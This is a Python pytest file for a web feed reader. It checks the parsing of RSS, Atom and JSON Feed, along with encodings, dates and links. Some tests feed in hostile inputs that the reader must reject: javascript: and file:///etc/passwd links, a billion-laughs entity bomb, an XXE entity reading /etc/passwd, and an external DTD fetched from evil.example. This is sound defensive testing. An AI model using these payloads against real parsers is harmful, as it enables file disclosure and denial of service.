"""Ten shapes of feed as they are found on the web, and feeds that mean harm."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime

import pytest

from seeds.feeds.items import MAX_ITEMS, FeedContent, FeedError
from seeds.feeds.reading import read_feed
from tests.worlds.news import build_feed, build_item

NOW = datetime(2026, 3, 10, 12, tzinfo=UTC)
DAY = datetime(2026, 3, 3, 10, tzinfo=UTC)
ADDRESS = "https://lamps.example/news/feed.xml"


def read(text: str | bytes, charset: str = "") -> FeedContent:
    content = text.encode() if isinstance(text, str) else text
    return read_feed(content, ADDRESS, NOW, charset)


RSS_091 = """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old Lamps</title><link>https://lamps.example/</link>
<language>en</language><image><title>Logo</title><url>https://lamps.example/logo.gif</url>
<link>https://lamps.example/</link></image>
<item><title>Cameras roll&nbsp;again</title><link>https://lamps.example/1</link>
<description>On the quay &eacute;.</description></item></channel></rss>"""
RSS_1 = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://lamps.example/"><title>Lamps</title></channel>
<item rdf:about="https://lamps.example/1"><title>Cameras roll</title>
<link>https://lamps.example/1</link><dc:date>2026-03-03T10:00:00Z</dc:date></item></rdf:RDF>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://lamps.example/news/"
 xml:lang="en"><title type="html">The &amp;lt;b&gt;Lamp&lt;/b&gt; Post</title>
<link rel="self" href="feed.xml"/>
<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Cameras <em>roll</em></div>
</title><link rel="enclosure" href="a.mp3"/><link href="1.html"/><id>tag:lamps.example,2026:1</id>
<published>2026-03-03T12:00:00+02:00</published><updated>2026-03-09T12:00:00Z</updated>
<content type="html">&lt;p&gt;On the quay.&lt;/p&gt;</content></entry></feed>"""
MEDIA_RSS = """<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Lamps</title><item><media:title>Cameras roll</media:title>
<link>https://lamps.example/1</link><pubDate>Tue, 3 Mar 2026 05:00:00 EST</pubDate>
<media:description>On the quay.</media:description>
<media:content url="https://lamps.example/1.jpg"/></item></channel></rss>"""
FEEDBURNER = """<rss version="2.0" xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0">
<channel><title>Lamps</title><item><title>Cameras roll</title>
<link>http://feeds.feedburner.com/~r/lamps/~3/abc/</link>
<pubDate>Tue, 03 Mar 2026 10:00:00 GMT</pubDate>
<feedburner:origLink>https://lamps.example/1</feedburner:origLink></item></channel></rss>"""
JSON_FEED = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Lamps",
        "language": "en-US",
        "items": [
            {
                "id": "1",
                "url": "https://lamps.example/1",
                "title": "Cameras roll",
                "content_html": "<p>On the quay.</p>",
                "date_published": "2026-03-03T10:00:00Z",
            }
        ],
    }
)


@pytest.mark.parametrize(
    ("text", "form"),
    [
        (RSS_1, "RSS 1.0"),
        (ATOM, "Atom"),
        (MEDIA_RSS, "RSS 2.0"),
        (FEEDBURNER, "RSS 2.0"),
        (JSON_FEED, "JSON Feed 1.1"),
        (build_feed(build_item("Cameras roll", "https://lamps.example/1", DAY)), "RSS 2.0"),
    ],
)
def test_every_shape_gives_title_address_and_date(text: str, form: str) -> None:
    content = read(text)
    [item] = content.items
    assert (content.form, content.fault) == (form, "")
    link = "https://lamps.example/news/1.html" if form == "Atom" else "https://lamps.example/1"
    assert (item.title, item.link, item.published) == ("Cameras roll", link, DAY)


def test_a_feed_of_1999_with_its_doctype_and_the_entities_of_html() -> None:
    content = read(RSS_091)
    [item] = content.items
    assert (content.form, content.title, content.language) == ("RSS 0.91", "Old Lamps", "en")
    assert (item.title, item.summary) == ("Cameras roll again", "On the quay é.")
    assert item.published is None


def test_relative_links_lead_to_the_feeds_own_site() -> None:
    [item] = read(build_feed(build_item("Lamps", "../2026/1.html"))).items
    assert item.link == "https://lamps.example/2026/1.html"


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("<b>Bold</b> &amp; new", "Bold & new"),
        ("&lt;i&gt;Lamp&lt;/i&gt; &amp;#8217;s", "Lamp ’s"),
        ("5 < 6 lamps", "5 < 6 lamps"),
        ("Two\n  lines\t\u202eand a turn", "Two lines and a turn"),
    ],
)
def test_titles_are_plain_text(title: str, shown: str) -> None:
    assert read(build_feed(build_item(title, "https://lamps.example/1"))).items[0].title == shown


def test_a_feed_in_windows_1252_is_read_whether_it_says_so_or_not() -> None:
    text = build_feed(build_item("“Lamps” – café", "https://lamps.example/1"))
    declared = text.replace("UTF-8", "windows-1252").encode("cp1252")
    mislabelled = text.replace("UTF-8", "ISO-8859-1").encode("cp1252")
    silent = text.replace(' encoding="UTF-8"', "").encode("cp1252")
    for content in (declared, mislabelled, silent, text.encode("utf-8-sig")):
        assert read(content).items[0].title == "“Lamps” – café"
    assert read(text.encode("utf-16")).items[0].title == "“Lamps” – café"
    served = text.replace(' encoding="UTF-8"', "").encode("cp1251", "replace")
    assert read(served, "cp1251").items[0].title == "“Lamps” – caf?"


@pytest.mark.parametrize(
    "date",
    ["", "yesterday", "Mon, 01 Jan 1601 00:00:00 GMT", "9999-12-31T23:59:59Z", "2026-13-45", "0"],
)
def test_impossible_dates_are_no_dates(date: str) -> None:
    item = "<item><title>Lamps</title><link>https://lamps.example/1</link>"
    [found] = read(build_feed(f"{item}<pubDate>{date}</pubDate></item>")).items
    assert found.published is None


def test_bare_ampersands_and_control_characters_are_forgiven() -> None:
    broken = "<item><title>Romy & Michele\x08</title><link>https://e.example/?a=1&b=2</link></item>"
    [item] = read(build_feed(broken)).items
    assert (item.title, item.link) == ("Romy & Michele", "https://e.example/?a=1&b=2")


def test_items_before_a_mistake_in_the_markup_count() -> None:
    whole = build_item("Whole", "https://lamps.example/1")
    content = read(build_feed(whole, "<item><title>Cut</wrong>"))
    assert [item.title for item in content.items] == ["Whole"]
    assert "not valid XML" in content.fault


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://user:secret@lamps.example/",
        "https://[broken/",
        "https://lamps.example/" + "a" * 600,
        "https://lamps.example/)](https://evil.example",
    ],
)
def test_links_that_are_not_of_the_web_are_left_out(link: str) -> None:
    assert read(build_feed(build_item("Lamps", link))).items[0].link == ""


BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "text",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "lol">{BOMB}]><rss><item><title>&l9;</title></item></rss>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel/></rss>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
    ],
)
def test_a_feed_that_declares_entities_is_refused(text: str) -> None:
    with pytest.raises(FeedError, match="entities"):
        read(text)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "empty"),
        ("hello", "neither XML nor JSON"),
        ("<!doctype html><html><head></head><body>Hi</body></html>", "not a feed"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "not a feed"),
        ("{}", "another kind"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 3}', "another kind"),
        ("{" * 100_000, "not valid JSON"),
        ("<rss><channel>" + "<a>" * 100_000, "nested without end"),
    ],
)
def test_what_is_no_feed_is_refused_with_a_clause(text: str, reason: str) -> None:
    with pytest.raises(FeedError, match=reason):
        read(text)


def test_a_feed_without_end_is_read_to_its_thousandth_item_in_a_moment() -> None:
    items = "".join(build_item(f"Lamp {n}", f"https://e.example/{n}", DAY) for n in range(10_000))
    began = time.process_time()
    content = read(build_feed(items))
    assert len(content.items) == MAX_ITEMS
    assert content.fault == "it has more than 1,000 items"
    assert time.process_time() - began < 3


def test_a_title_of_a_megabyte_is_cut() -> None:
    content = read(build_feed(build_item("Lamp " * 200_000, "https://e.example/1", DAY)))
    assert len(content.items[0].title) <= 300


def test_an_item_is_known_by_its_page_and_not_by_its_id() -> None:
    first, second, other = read(
        build_feed(
            build_item("Lamps", "https://www.e.example/1?utm_source=rss", guid="same"),
            build_item("Lamps!", "https://e.example/1", guid="other"),
            build_item("Quays", "https://e.example/2", guid="same"),
        )
    ).items
    assert first.key == second.key != other.key
    assert first.title_key == second.title_key != other.title_key


def test_values_of_the_wrong_type_in_json_are_left_out() -> None:
    odd = {"title": 5, "url": [], "date_published": {}, "content_text": "Lamps burn"}
    feed = {"version": "https://jsonfeed.org/version/1", "items": [None, 3, odd, {}]}
    [item] = read(json.dumps(feed)).items
    assert (item.title, item.link, item.published) == ("Lamps burn", "", None)
